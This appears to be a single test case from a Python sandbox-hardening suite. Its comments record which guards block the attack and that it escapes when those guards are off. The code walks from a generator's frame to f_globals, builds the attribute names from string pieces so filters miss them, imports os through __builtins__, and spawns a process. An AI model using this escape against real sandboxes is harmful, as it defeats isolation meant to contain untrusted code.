# attack: generator/coroutine/traceback frames
# stops: guards: value has no attribute 'send'
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# send() runs a generator that iteration would refuse; its frame via getattr
def g():
    yield 1
gen = g()
gen.send(None)
found = getattr(getattr(gen, "gi_" + "frame"), "f_glo" + "bals")
os = found["__builtins__"]["__import__"]("os")
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
